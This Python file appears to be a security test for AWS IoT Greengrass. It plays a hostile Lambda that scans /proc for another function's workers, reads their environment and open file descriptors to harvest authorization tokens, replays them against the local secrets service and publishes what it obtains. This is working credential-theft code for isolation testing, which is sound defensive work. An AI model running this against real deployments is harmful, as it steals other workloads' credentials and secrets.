# Plays a hostile NoContainer function: looks for the workers of another function (by the
# --handler=<event["victim"]> in their command line) and tries to take their
# AWS_CONTAINER_AUTHORIZATION_TOKEN from /proc/<pid>/environ and /proc/<pid>/fd/*, then asks the
# secrets service for event["secret"] with its own token and with every token it found.
# Publishes {"pids", "environ", "fds", "tokens", "own", "stolen"} on event["reply"].
import http.client
import json
import os

import greengrasssdk

iot = greengrasssdk.client('iot-data')
SECRETS = 'arn:aws:lambda:::function:GGSecretManager:1'


def _secret(token, secret_id):
    c = http.client.HTTPConnection('127.0.0.1', int(os.environ['GG_DAEMON_PORT']), timeout=5)
    try:
        c.request('POST', '/2016-11-01/functions/' + SECRETS,
                  body=json.dumps({'SecretId': secret_id}),
                  headers={'Authorization': token, 'X-Amz-Invocation-Type': 'RequestResponse',
                           'X-Amz-Client-Context': ''})
        r = c.getresponse()
        r.read()
        inv = r.getheader('X-Amz-InvocationId')
        if r.status // 100 != 2 or not inv:
            return {'status': r.status, 'got_value': False, 'body': ''}
        c.request('GET', '/2016-11-01/functions/' + SECRETS,
                  headers={'Authorization': token, 'X-Amz-InvocationId': inv})
        r = c.getresponse()
        body = r.read().decode('utf-8', 'replace')
        return {'status': r.status, 'got_value': 'SecretString' in body, 'body': body[:300]}
    except Exception as e:
        return {'error': '%s: %s' % (type(e).__name__, e)}
    finally:
        c.close()


def _scan(victim):
    out = {'pids': [], 'environ': {}, 'fds': {}, 'tokens': []}
    me = os.getpid()
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            with open('/proc/%s/cmdline' % p, 'rb') as f:
                cmd = f.read().split(b'\0')
        except OSError:
            continue
        if ('--handler=' + victim).encode() not in cmd:
            continue
        out['pids'].append(int(p))
        try:
            with open('/proc/%s/environ' % p, 'rb') as f:
                env = f.read()
            out['environ'][p] = 'read'
            for kv in env.split(b'\0'):
                if kv.startswith(b'AWS_CONTAINER_AUTHORIZATION_TOKEN='):
                    out['tokens'].append(kv.split(b'=', 1)[1].decode())
        except OSError as e:
            out['environ'][p] = type(e).__name__
        try:
            fds = os.listdir('/proc/%s/fd' % p)
            out['fds'][p] = fds
        except OSError as e:
            out['fds'][p] = type(e).__name__
            fds = []
        for fd in fds:
            try:
                h = os.open('/proc/%s/fd/%s' % (p, fd), os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                data = os.read(h, 4096)
                for word in data.split():
                    w = word.decode('ascii', 'replace')
                    if len(w) == 64 and all(c in '0123456789abcdef' for c in w):
                        out['tokens'].append(w)
            except OSError:
                pass
            finally:
                os.close(h)
    return out


def handler(event, context):
    r = _scan(event['victim'])
    r['own'] = _secret(os.environ.get('AWS_CONTAINER_AUTHORIZATION_TOKEN', ''), event['secret'])
    r['stolen'] = [_secret(t, event['secret']) for t in r['tokens']]
    r['own_token_in_env'] = bool(os.environ.get('AWS_CONTAINER_AUTHORIZATION_TOKEN'))
    try:
        with open('/proc/self/environ', 'rb') as f:  # non-dumpable: root-owned, 0400
            has = b'AWS_CONTAINER_AUTHORIZATION_TOKEN' in f.read()
        r['own_proc_environ'] = 'has token' if has else 'no token'
    except OSError as e:
        r['own_proc_environ'] = type(e).__name__
    iot.publish(topic=event.get('reply', 'thief/out'), payload=json.dumps(r))
    return r
